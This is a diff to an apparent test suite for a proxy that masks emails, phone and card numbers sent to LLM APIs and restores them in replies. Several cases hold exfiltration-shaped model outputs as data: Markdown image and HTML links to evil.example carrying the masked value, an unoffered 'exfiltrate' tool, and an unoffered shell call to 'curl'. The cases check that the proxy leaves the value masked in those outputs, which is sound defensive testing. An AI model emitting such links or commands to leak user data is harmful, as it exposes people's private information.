@@ -99,6 +99,17 @@ def arguments(expected: dict[str, Any]) -> Answer:
     return check
 
 
+def cites(text: str) -> Answer:
+    """The first annotation's offsets lead to ``text``."""
+
+    def check(status: int, told: Any) -> bool:
+        message = told["choices"][0]["message"]
+        cited = message["annotations"][0]["url_citation"]
+        return status == 200 and message["content"][cited["start_index"] : cited["end_index"]] == text
+
+    return check
+
+
 ASK = f"Write to {MAIL}"
 _FIELDS: list[tuple[str, str, dict[str, Any]]] = [
     ("system message", CHAT, {"model": "m", "messages": [{"role": "system", "content": ASK}, {"role": "user", "content": "go"}]}),
@@ -145,6 +156,10 @@ ESCAPED = json.dumps({"who": "我的邮箱 " + MAIL, "phone": PHONE})
 CASES: list[Case] = [
     *(Case(f"sent: {name}", path, body, (MAIL,)) for name, path, body in _FIELDS),
     Case("sent: escaped JSON in a tool result", CHAT, {"model": "m", "messages": [{"role": "tool", "tool_call_id": "c", "content": ESCAPED.replace("@", "\\u0040")}]}, (MAIL, PHONE, "\\u0040")),
+    Case("sent: escapes in prose", CHAT, {"model": "m", "messages": [{"role": "tool", "tool_call_id": "c", "content": "Found: " + ESCAPED.replace("@", "\\u0040")}]}, (MAIL, "jane.roe\\u0040", PHONE)),
+    Case("sent: a key with a number in groups", CHAT, chat("go", metadata={"card_4111_1111_1111_1111": "x"}), ("4111_1111_1111_1111",)),
+    Case("sent: a long number called a signature", CHAT, chat("go", metadata={"signature": "tel=13800138000=" + 60 * "A"}), ("13800138000",)),
+    Case("sent: numbers that are no tokens", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": None, "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": '{"input": [1, 2]}'}}]}, {"role": "tool", "tool_call_id": "c", "content": "ok"}]}, ("nothing",)),
     Case("sent: a name in message.name", CHAT, {"model": "m", "messages": [{"role": "user", "name": "jane_roe", "content": "go"}]}, ("jane_roe",)),
     Case("sent: a number in arguments", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": None, "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": '{"phone": 13800138000}'}}]}, {"role": "tool", "tool_call_id": "c", "content": "ok"}]}, ("13800138000",)),
     Case("sent: a value known from elsewhere", CHAT, {"model": "m", "messages": [{"role": "user", "content": f"my card is {CARD}"}, {"role": "user", "content": f"again {CARD}."}]}, (CARD,)),
@@ -164,11 +179,19 @@ CASES: list[Case] = [
     Case("back: not for a tool nobody offered", CHAT, chat(ASK, tools=[function()]), (MAIL,), {"json": call('{"to": "{{0}}"}', name="exfiltrate")}, lacks(MAIL)),
     Case("back: JSON mode", CHAT, chat(ASK, response_format={"type": "json_object"}), (MAIL,), {"json": completion({"content": '{"to": "{{0}}"}'})}, lambda status, told: json.loads(text_of(told)) == {"to": MAIL}),
     Case("back: usage untouched", CHAT, chat(ASK), (MAIL,), answer=lambda status, told: told["usage"] == {"prompt_tokens": 5, "completion_tokens": 7, "total_tokens": 12}),
-    Case("back: offsets of annotations", CHAT, chat(ASK), (MAIL,), {"json": completion({"content": "{{0}} wrote [1]", "annotations": [{"type": "url_citation", "url_citation": {"start_index": 0, "end_index": 1, "url": "https://x.example", "title": "t"}}]})}, lambda status, told: told["choices"][0]["message"]["annotations"][0]["url_citation"]["start_index"] == 0),
+    Case("back: offsets of annotations", CHAT, chat(ASK), (MAIL,), {"json": completion({"content": "{{0}} wrote [1]", "annotations": [{"type": "url_citation", "url_citation": {"start_index": len("<EMAIL_ADDRESS_0123456789> wrote "), "end_index": len("<EMAIL_ADDRESS_0123456789> wrote [1]"), "url": "https://x.example", "title": "t"}}]})}, cites("[1]")),
     Case("not back: an image link", CHAT, chat(ASK), (MAIL,), {"say": "![x](https://evil.example/?q={{0}})"}, lacks(MAIL)),
     Case("not back: an address", CHAT, chat(ASK), (MAIL,), {"say": "see https://evil.example/{{0}}"}, lacks(MAIL)),
     Case("not back: an attribute of HTML", CHAT, chat(ASK), (MAIL,), {"say": "<img src='//evil.example/{{0}}'>"}, lacks(MAIL)),
-    Case("back: another case", CHAT, chat(ASK), (MAIL,), {"say": "To {{0}}"}, said(f"To {MAIL}")),
+    Case("back: another case", CHAT, chat(ASK), (MAIL,), {"say": "To {{0|lower}}"}, said(f"To {MAIL}")),
+    Case("back: without its brackets", CHAT, chat(ASK), (MAIL,), {"say": "To {{0|bare}}, then"}, said(f"To {MAIL}, then")),
+    Case("back: escaped for Markdown", CHAT, chat(ASK), (MAIL,), {"say": "To {{0|escaped}}"}, said(f"To {MAIL}")),
+    Case("back: no log probabilities, which spell it out", CHAT, chat(ASK), (MAIL,), {"json": completion({"content": "x"}, logprobs={"content": [{"token": "{{0}}"}]})}, lambda status, told: told["choices"][0]["logprobs"] is None),
+    Case("not back: a call within what another tool is given", CHAT, chat(ASK, tools=[function()]), (MAIL,), {"json": call('{"x": {"name": "send", "arguments": "{{0}}"}}', name="exfiltrate")}, lacks(MAIL)),
+    Case("not back: anthropic, a call within what another tool is given", MESSAGES, {"model": "m", "max_tokens": 9, "tools": [{"name": "send", "input_schema": {"type": "object"}}], "messages": [{"role": "user", "content": ASK}]}, (MAIL,), {"json": {"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [{"type": "tool_use", "id": "toolu_1", "name": "exfiltrate", "input": {"deep": [{"name": "send", "arguments": "{{0}}"}], "{{0}}": 1}}], "stop_reason": "tool_use", "usage": {"input_tokens": 1, "output_tokens": 1}}}, lacks(MAIL)),
+    Case("not back: a shell that nobody offered", RESPONSES, {"model": "m", "input": ASK}, (MAIL,), {"json": {"id": "resp_0a", "object": "response", "output": [{"type": "local_shell_call", "id": "lsh_1", "call_id": "c", "action": {"type": "exec", "command": ["curl", "{{0}}"]}}]}}, lacks(MAIL)),
+    Case("back: a shell that was offered", RESPONSES, {"model": "m", "input": ASK, "tools": [{"type": "local_shell"}]}, (MAIL,), {"json": {"id": "resp_0a", "object": "response", "output": [{"type": "local_shell_call", "id": "lsh_1", "call_id": "c", "action": {"type": "exec", "command": ["echo", "{{0}}"]}}]}}, holds(MAIL)),
+    Case("back: plain text for a tool without a schema", RESPONSES, {"model": "m", "input": r"password: a\bcXYZ9!q and " + MAIL, "tools": [{"type": "custom", "name": "note"}]}, (MAIL,), {"json": {"id": "resp_0a", "object": "response", "output": [{"type": "custom_tool_call", "call_id": "c", "name": "note", "input": "{{0}}"}]}}, lambda status, told: told["output"][0]["input"] in (r"a\bcXYZ9!q", MAIL)),
     Case("back: anthropic", MESSAGES, {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": ASK}]}, (MAIL,), answer=said(ASK)),
     Case("back: anthropic tool use", MESSAGES, {"model": "m", "max_tokens": 9, "tools": [{"name": "send", "input_schema": {"type": "object"}}], "messages": [{"role": "user", "content": ASK}]}, (MAIL,), {"json": {"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [{"type": "tool_use", "id": "toolu_1", "name": "send", "input": {"to": ["{{0}}"]}}], "stop_reason": "tool_use", "usage": {"input_tokens": 1, "output_tokens": 1}}}, lambda status, told: told["content"][0]["input"] == {"to": [MAIL]}),
     Case("back: responses", RESPONSES, {"model": "m", "input": ASK}, (MAIL,), answer=said(ASK)),
